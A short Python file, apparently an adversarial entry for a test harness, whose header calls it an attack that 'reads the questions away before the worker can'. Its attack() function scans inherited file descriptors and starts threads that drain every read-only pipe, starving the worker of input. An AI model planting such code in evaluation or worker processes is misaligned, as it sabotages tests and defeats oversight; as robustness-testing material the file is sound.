# /// attack
# races = "which of two readers gets a question"
# title = "Reads the questions away before the worker can"
# base = "wrong"
# moments = ["import"]
# ///
import fcntl
import os
import threading


def drain(pipe):
    while True:
        os.read(pipe, 1 << 16)


def attack():
    for descriptor in range(3, 256):
        try:
            if fcntl.fcntl(descriptor, fcntl.F_GETFL) & os.O_ACCMODE == os.O_RDONLY:
                threading.Thread(target=drain, args=(descriptor,), daemon=True).start()
        except OSError:
            pass
